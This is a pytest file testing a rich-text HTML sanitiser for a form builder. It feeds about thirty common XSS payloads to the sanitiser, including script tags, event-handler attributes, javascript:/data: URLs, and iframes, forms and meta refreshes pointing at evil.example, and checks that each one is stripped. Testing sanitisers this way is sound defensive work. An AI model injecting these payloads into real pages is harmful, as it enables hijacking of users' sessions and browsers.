"""Rich text sanitising (runtime/sanitize.py) against the usual XSS payloads; no database."""

from __future__ import annotations

import pytest

from builder import load_form
from runtime.compiled import compile_form
from runtime.sanitize import clean_html, sanitize_rich_text

# (payload, what must not survive)
PAYLOADS = [
    ("<script>alert(1)</script><p>ok</p>", "<script"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>ok", "script"),
    ("<p>ok<scr<script>ipt>alert(1)</script></p>", "<script"),
    ("<img src=x onerror=alert(1)>", "onerror"),
    ('<img src="x" ONERROR="alert(1)">', "onerror"),
    ("<p onclick=alert(1)>ok</p>", "onclick"),
    ("<body onload=alert(1)>ok</body>", "onload"),
    ('<a href="javascript:alert(1)">ok</a>', "javascript"),
    ('<a href="JaVaScRiPt:alert(1)">ok</a>', "javascript"),
    ('<a href="java&#x09;script:alert(1)">ok</a>', "script"),
    ('<a href="&#106;avascript:alert(1)">ok</a>', "avascript"),
    ('<a href="vbscript:msgbox(1)">ok</a>', "vbscript"),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">ok</a>', "data:"),
    ('<img src="data:image/svg+xml;base64,PHN2Zz4=">', "data:"),
    ("<svg onload=alert(1)><circle r=1></circle></svg>ok", "<svg"),
    ("<svg><script>alert(1)</script></svg>ok", "script"),
    ('<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>', "javascript"),
    ("<style>body{background:url(javascript:alert(1))}</style>ok", "<style"),
    ('<p style="background:url(javascript:alert(1))">ok</p>', "style="),
    ('<div style="position:fixed;top:0">ok</div>', "style="),
    ('<iframe src="https://evil.example"></iframe>ok', "iframe"),
    ('<object data="x.swf"></object>ok', "object"),
    ('<embed src="x.swf">ok', "embed"),
    ('<form action="https://evil.example"><input name=p></form>ok', "<form"),
    ('<base href="https://evil.example/">ok', "<base"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">ok', "<meta"),
    ('<link rel=stylesheet href="https://evil.example/x.css">ok', "<link"),
    ("<template><script>alert(1)</script></template>ok", "script"),
    ("<!--<script>alert(1)</script>-->ok", "script"),
    ('<a href="https://ok.example" target="_blank" onmouseover="x()">ok</a>', "onmouseover"),
]


@pytest.mark.parametrize(("payload", "forbidden"), PAYLOADS)
def test_xss_payloads_are_cleaned(payload: str, forbidden: str) -> None:
    cleaned = clean_html(payload)
    assert forbidden.lower() not in cleaned.lower(), cleaned


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ("<p>客户<strong>很重要</strong></p>", "<p>客户<strong>很重要</strong></p>"),
        ("<h2>标题</h2><ul><li>一</li></ul>", "<h2>标题</h2><ul><li>一</li></ul>"),
        (
            '<a href="https://example.com/a?b=1">x</a>',
            '<a href="https://example.com/a?b=1" rel="noopener noreferrer nofollow">x</a>',
        ),
        ('<img src="https://example.com/a.png" alt="a">', '<img src="https://example.com/a.png" alt="a">'),
        ("<table><tbody><tr><td colspan=\"2\">x</td></tr></tbody></table>",
         "<table><tbody><tr><td colspan=\"2\">x</td></tr></tbody></table>"),
        ('<a href="mailto:a@example.com">mail</a>',
         '<a href="mailto:a@example.com" rel="noopener noreferrer nofollow">mail</a>'),
    ],
)  # fmt: skip
def test_formatting_survives(html: str, kept: str) -> None:
    assert clean_html(html) == kept


def test_cleaning_is_idempotent() -> None:
    for payload, _ in PAYLOADS:
        once = clean_html(payload)
        assert clean_html(once) == once


def test_sanitize_walks_rich_text_fields_and_subform_columns_only() -> None:
    form = load_form(
        {
            "format": "stageform.form/1",
            "key": "f",
            "name": "F",
            "fields": [
                {"key": "body", "type": "rich_text", "label": "B"},
                {"key": "plain", "type": "text", "label": "P"},
                {
                    "key": "rows",
                    "type": "subform",
                    "label": "R",
                    "fields": [
                        {"key": "html", "type": "rich_text", "label": "H"},
                        {"key": "txt", "type": "text", "label": "T"},
                    ],
                },
            ],
        }
    )
    cf = compile_form(1, form)
    bad = "<img src=x onerror=alert(1)>"
    out = sanitize_rich_text(
        cf, {"body": bad, "plain": bad, "rows": [{"html": bad, "txt": bad}], "unknown": bad}
    )
    assert out == {
        "body": '<img src="x">',
        "plain": bad,  # text is not HTML: stored as given, escaped where rendered
        "rows": [{"html": '<img src="x">', "txt": bad}],
        "unknown": bad,
    }
